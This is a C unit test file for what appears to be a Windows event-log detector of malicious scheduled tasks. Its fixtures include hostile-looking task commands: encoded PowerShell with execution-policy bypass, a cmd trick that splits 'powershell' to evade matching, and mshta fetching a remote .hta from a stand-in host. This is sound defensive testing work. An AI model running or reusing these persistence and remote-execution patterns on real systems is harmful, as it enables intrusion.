/* Scheduled tasks: registered, changed, deleted, run, in both logs. */
#include "made_log.h"

#include <stdio.h>
#include <stdlib.h>

#define TASKS "Microsoft-Windows-TaskScheduler/Operational"

static void registered(made *m, uint32_t id, const char *name, const char *xml)
{
    made_event(m, SECURITY, id, evtx_sid("SubjectUserSid", "S-1-5-18"), evtx_str("SubjectUserName", "DB1$"), evtx_str("SubjectDomainName", "WORKGROUP"),
               evtx_hex64("SubjectLogonId", 0x3e7), evtx_str("TaskName", name), evtx_str(id == 4702 ? "TaskContentNew" : "TaskContent", xml));
}

static const char *xml_of(char *room, size_t size, const char *author, const char *interval, const char *command, const char *arguments)
{
    snprintf(room, size,
             "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n"
             "  <RegistrationInfo><Author>%s</Author></RegistrationInfo>\r\n  <Triggers><TimeTrigger><Repetition><Interval>%s</Interval></Repetition></TimeTrigger></Triggers>\r\n"
             "  <Principals><Principal id=\"Author\"><UserId>S-1-5-18</UserId></Principal></Principals>\r\n  <Settings><Hidden>false</Hidden></Settings>\r\n"
             "  <Actions Context=\"Author\"><Exec><Command>%s</Command><Arguments>%s</Arguments></Exec></Actions>\r\n</Task>",
             author, interval, command, arguments);
    return room;
}

static void lawful_tasks_make_no_finding(void **state)
{
    (void)state;
    char xml[2000];
    made *m = made_begin();
    registered(m, 4698, "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag", xml_of(xml, sizeof xml, "Microsoft Corporation", "P7D", "%windir%\\system32\\defrag.exe", "-c"));
    registered(m, 4698, "\\GoogleUpdateTaskMachineUA", xml_of(xml, sizeof xml, "DB1\\SYSTEM", "PT1H", "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe", "/ua /installsource scheduler"));
    registered(m, 4698, "\\每日备份", xml_of(xml, sizeof xml, "DB1\\管理员", "P1D", "D:\\备份\\backup.exe", "/全部"));
    registered(m, 4702, "\\每日备份", xml_of(xml, sizeof xml, "DB1\\管理员", "P1D", "D:\\备份\\backup.exe", "/全部"));
    made_event(m, TASKS, 106, evtx_str("TaskName", "\\每日备份"), evtx_str("UserContext", "DB1\\管理员"));
    made_event(m, TASKS, 200, evtx_str("TaskName", "\\每日备份"), evtx_str("ActionName", "D:\\备份\\backup.exe"), evtx_u32("EnginePID", 1234));
    made_read(m);
    assert_int_equal(made_found(m, NULL), 0);
    assert_int_equal(made_acts(m, "task.create"), 4);
    const act *a = made_act_of(m, "task.create", "name", "\\每日备份");
    assert_fact(a, "command", "D:\\备份\\backup.exe");
    assert_fact(a, "arguments", "/全部");
    assert_fact(a, "author", "DB1\\管理员");
    assert_fact(a, "runs_as", "S-1-5-18");
    assert_fact(a, "interval", "P1D");
    assert_fact(a, "by", "WORKGROUP\\DB1$");
    made_end(m);
}

static void the_seed_familys_tasks_are_named(void **state)
{
    (void)state;
    static const struct { const char *name, *interval, *command, *arguments, *finding; } tasks[] = {
        { "\\DnsScan", "PT60M", "c:\\windows\\temp\\svchost.exe", "", "task-create" },
        { "\\Microsoft\\windows\\Bluetooths", "PT50M", "powershell", "-ep bypass -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=", "task-create" },
        { "\\blackball", "PT120M", "blackball", "", "task-create" },
        { "\\a1b2c3", "PT60M", "cmd", "/c \"set A=power&amp; call %A%shell -ep bypass -e AAAA\"", "task-create" },
    };
    for (size_t i = 0; i < sizeof tasks / sizeof *tasks; i++) {
        char xml[2000];
        made *m = made_begin();
        registered(m, 4698, tasks[i].name, xml_of(xml, sizeof xml, "N/A", tasks[i].interval, tasks[i].command, tasks[i].arguments));
        made_read(m);
        const act *a = made_act(m, "task.create", 0);
        assert_finding(a, tasks[i].finding, SEVERITY_CRITICAL);
        assert_fact(a, "family", "drivelife");
        assert_fact(a, "interval", tasks[i].interval);
        made_end(m);
    }
}

static void what_a_task_starts_says_enough(void **state)
{
    (void)state;
    static const struct { const char *name, *command, *arguments, *looks; } tasks[] = {
        { "\\MicroSoft\\Windows\\qwe\\rty", "C:\\Windows\\notepad.exe", "", "look-alike-folder" },
        { "\\updater", "C:\\Users\\Public\\upd.exe", "", "temp-path" },
        { "\\cleaner", "powershell.exe", "-w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=", "encoded" },
        { "\\gqxkzvbw", "cmd.exe", "/c start", "random-name" },
        { "\\web", "mshta.exe", "http://example.net/a.hta", "script-proxy" },
    };
    for (size_t i = 0; i < sizeof tasks / sizeof *tasks; i++) {
        char xml[2000];
        made *m = made_begin();
        registered(m, 4698, tasks[i].name, xml_of(xml, sizeof xml, "N/A", "PT1H", tasks[i].command, tasks[i].arguments));
        made_read(m);
        const act *a = made_act(m, "task.create", 0);
        assert_finding(a, "task-create", SEVERITY_HIGH);
        assert_lists(a, "looks", tasks[i].looks);
        made_end(m);
    }
}

static void a_task_that_lives_for_seconds_is_remote_execution(void **state)
{
    (void)state;
    for (int log = 0; log < 2; log++)
        for (int late = 0; late < 2; late++) {
            char xml[2000];
            made *m = made_begin();
            if (log)
                registered(m, 4698, "\\KqzTvBnx", xml_of(xml, sizeof xml, "N/A", "PT1H", "cmd.exe", "/C whoami"));
            else
                made_event(m, TASKS, 106, evtx_str("TaskName", "\\KqzTvBnx"), evtx_str("UserContext", "DB1\\Administrator"));
            m->time += late ? 5 * MOMENT_MINUTE : 0;
            if (log)
                made_event(m, SECURITY, 4699, evtx_str("TaskName", "\\KqzTvBnx"), evtx_str("SubjectUserName", "Administrator"), evtx_str("TaskContent", ""));
            else
                made_event(m, TASKS, 141, evtx_str("TaskName", "\\KqzTvBnx"), evtx_str("UserName", "DB1\\Administrator"));
            made_read(m);
            assert_int_equal(made_found(m, "remote-execution"), !late);
            assert_string_equal(fact_of(made_act(m, "task.delete", 0), "looks"), late ? "" : "short-lived");
            made_end(m);
        }
}

static void a_run_is_noted_once_for_each_action(void **state)
{
    (void)state;
    made *m = made_begin();
    for (int i = 0; i < 500; i++) {
        made_event(m, TASKS, 200, evtx_str("TaskName", "\\DnsScan"), evtx_str("ActionName", "c:\\windows\\temp\\svchost.exe"), evtx_guid("TaskInstanceId", "{00000000-0000-0000-0000-000000000001}"), evtx_u32("EnginePID", 1));
        made_event(m, TASKS, 201, evtx_str("TaskName", "\\DnsScan"), evtx_str("ActionName", "c:\\windows\\temp\\svchost.exe"), evtx_u32("ResultCode", 0), evtx_u32("EnginePID", 1));
        made_event(m, TASKS, 200, evtx_str("TaskName", "\\Microsoft\\Windows\\Time\\Sync"), evtx_str("ActionName", "w32tm.exe"), evtx_u32("EnginePID", 1));
    }
    made_read(m);
    assert_int_equal(made_acts(m, "task.run"), 1);
    const act *a = made_act(m, "task.run", 0);
    assert_fact(a, "family", "drivelife");
    assert_finding(a, "task-create", SEVERITY_CRITICAL);
    made_end(m);
}

static void broken_task_xml_gives_what_can_be_read(void **state)
{
    (void)state;
    static const struct { const char *xml, *command; } broken[] = {
        { "", "" }, { "<", "" }, { "<Command", "" }, { "<Command>", "" }, { "<Command>C:\\a.exe", "" }, { "<Command/>", "" }, { "<Command></Command>", "" },
        { "<Command>C:\\Windows\\Temp\\a.exe<", "C:\\Windows\\Temp\\a.exe" }, { "<Commands>x</Commands><Command a=\"1\">  b.exe </Command>", "b.exe" },
        { "<Command>&amp;&lt;&gt;&quot;&apos;&unknown;&#65;</Command>", "&<>\"'&unknown;&#65;" }, { "<<<<<Command>x</Command>", "x" }, { "<Command\n>x</Command>", "x" },
    };
    for (size_t i = 0; i < sizeof broken / sizeof *broken; i++) {
        made *m = made_begin();
        registered(m, 4698, "\\t", broken[i].xml);
        made_read(m);
        assert_fact(made_act(m, "task.create", 0), "command", broken[i].command);
        made_end(m);
    }
}

static void hostile_records_are_borne(void **state)
{
    (void)state;
    made *m = made_begin();
    made_hostile_fields(m, SECURITY, NULL, 4698, "TaskName", "TaskContent", "SubjectUserName", "SubjectLogonId");
    made_hostile_fields(m, SECURITY, NULL, 4699, "TaskName", "TaskContent");
    made_hostile_fields(m, SECURITY, NULL, 4702, "TaskName", "TaskContentNew");
    made_hostile_fields(m, TASKS, NULL, 106, "TaskName", "UserContext");
    made_hostile_fields(m, TASKS, NULL, 129, "TaskName", "Path", "ProcessID");
    made_hostile_fields(m, TASKS, NULL, 201, "TaskName", "ActionName", "ResultCode");
    made_hostile_fields(m, TASKS, NULL, 141, "TaskName", "UserName");
    char *deep = malloc(25001);
    for (size_t i = 0; i < 25000; i++)
        deep[i] = "<Command "[i % 9];
    deep[25000] = 0;
    registered(m, 4698, "\\deep", deep);
    free(deep);
    made_read(m);
    assert_true(made_acts(m, "task.create") > 50);
    made_end(m);
}

static void tasks_without_end_are_counted_not_kept(void **state)
{
    (void)state;
    made *m = made_begin();
    for (unsigned i = 0; i < 20000; i++) {
        char name[40];
        snprintf(name, sizeof name, "\\task%u", i);
        made_event(m, TASKS, 200, evtx_str("TaskName", name), evtx_str("ActionName", "C:\\tools\\a.exe"));
    }
    made_read(m);
    assert_true(made_acts(m, "task.run") <= 4096);
    assert_true(m->cut >= 20000 - 16384);
    made_end(m);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(lawful_tasks_make_no_finding),
        cmocka_unit_test(the_seed_familys_tasks_are_named),
        cmocka_unit_test(what_a_task_starts_says_enough),
        cmocka_unit_test(a_task_that_lives_for_seconds_is_remote_execution),
        cmocka_unit_test(a_run_is_noted_once_for_each_action),
        cmocka_unit_test(broken_task_xml_gives_what_can_be_read),
        cmocka_unit_test(hostile_records_are_borne),
        cmocka_unit_test(tasks_without_end_are_counted_not_kept),
    };
    return cmocka_run_group_tests(tests, made_set_up, made_tear_down);
}
